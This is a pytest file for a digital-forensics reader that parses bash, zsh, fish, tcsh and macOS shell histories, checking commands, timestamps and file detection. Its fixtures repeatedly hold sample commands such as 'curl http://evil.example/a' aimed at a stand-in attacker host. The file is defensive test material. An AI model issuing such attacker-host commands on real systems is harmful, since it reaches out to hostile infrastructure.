"""Command histories."""

from __future__ import annotations

import pytest
from tests.evidence.artefact_kit import bears_damage, read_member, read_place, shows_plant
from tests.evidence_kit import read_bytes

from nachsorge.evidence.identify import reader_for
from nachsorge.evidence.readers.shell_history import ShellHistory
from nachsorge.model.times import SECOND, parse_instant
from nachsorge.model.words import Kind, Status

BASH = b"#1680076800\ncurl http://evil.example/a\n#1680076801\nfor x in 1\ndo echo\n"
PLAIN = b"ls\n\ncurl http://evil.example/a\n# a comment\n"
ZSH = b": 1680076800:0;curl http://evil.example/a\n: 1680076801:2;echo a\\\nb\n: 1680076802:0;echo \xc3\x83\xa4\n"
FISH = (
    b"- cmd: curl http://evil.example/a\n  when: 1680076800\n  paths:\n    - x\n"
    b"- cmd: echo a\\nb\\\\c\n  when: 1680076801\n"
)
WHEN = parse_instant("2023-03-29T08:00")


def commands(records):
    return [(record.event["command"], record.time) for record in records]


@pytest.mark.parametrize(
    ("body", "name", "second"),
    [
        (BASH, "x", "for x in 1\ndo echo"),
        (ZSH, "x", "echo a\\\nb"),
        (FISH, "x", "echo a\nb\\c"),
    ],
)
def test_commands_with_their_times(body, name, second):
    assert ShellHistory().accepts(body, name) == 88
    records, reading = read_member(ShellHistory(), body, name)
    assert commands(records)[:2] == [("curl http://evil.example/a", WHEN), (second, WHEN + 1_000_000)]
    assert records[0].values[0].kind is Kind.TEXT
    assert reading.status is Status.READ and reading.seen[0].spans == ()


def test_zsh_stores_some_bytes_in_its_own_way():
    assert commands(read_member(ShellHistory(), ZSH)[0])[2][0] == "echo Ä"


def test_a_history_without_times_is_known_by_its_name_alone():
    assert ShellHistory().accepts(PLAIN, "home/kim/.bash_history") == 75
    assert ShellHistory().accepts(PLAIN, "notes.txt") == 0
    records, reading = read_member(ShellHistory(), PLAIN, ".bash_history")
    assert commands(records) == [("ls", None), ("curl http://evil.example/a", None), ("# a comment", None)]
    assert "3 commands carry no time" in reading.note and [r.locator for r in records] == ["line 1", "line 3", "line 4"]


def test_tcsh_and_the_sessions_of_macos_terminal():
    body = b"#+1680000000\ncurl http://evil.example/\n#+1680000060\nls\n"
    assert ShellHistory().accepts(body, "x") == 88
    one, two = read_bytes(ShellHistory(), body)[0]
    assert (one.event["command"], one.time) == ("curl http://evil.example/", 1680000000 * SECOND)
    assert two.time == 1680000060 * SECOND
    for folder in (".zsh_sessions", ".bash_sessions"):
        for end in ("history", "historynew"):
            place = f"Users/kim/{folder}/8C0E1C7A-0000-4000-8000-000000000000.{end}"
            found = reader_for(b"curl http://evil.example/\nls\n", place)
            assert found is not None and found.name == "shell_history"
    assert ShellHistory().accepts(b"export x=1\n", "Users/kim/.zsh_sessions/8C0E.session") == 0


@pytest.mark.parametrize(
    ("name", "count", "last"),
    [
        ("bash_history", 4, "2021-06-10T22:30:36"),
        ("zsh_extended_history.txt", 4, "2016-03-26T11:54:57"),
        ("fish_history", 10, "2021-07-11T02:58:35"),
    ],
)
def test_real_histories(shared_data, name, count, last):
    records, reading = read_place(ShellHistory(), shared_data / "plaso-host-artefacts" / name)
    assert (len(records), reading.records, reading.status) == (count, count, Status.READ)
    assert records[-1].time == parse_instant(last)


@pytest.mark.parametrize("body", [BASH, PLAIN, ZSH, FISH])
def test_damage_sieve_and_plant(body):
    bears_damage(ShellHistory(), body)
    shows_plant(ShellHistory(), body)
    some, ledger = read_bytes(ShellHistory(), body, b"evil.example")
    assert len(some) == 1 and ledger.records == len(read_bytes(ShellHistory(), body)[0])
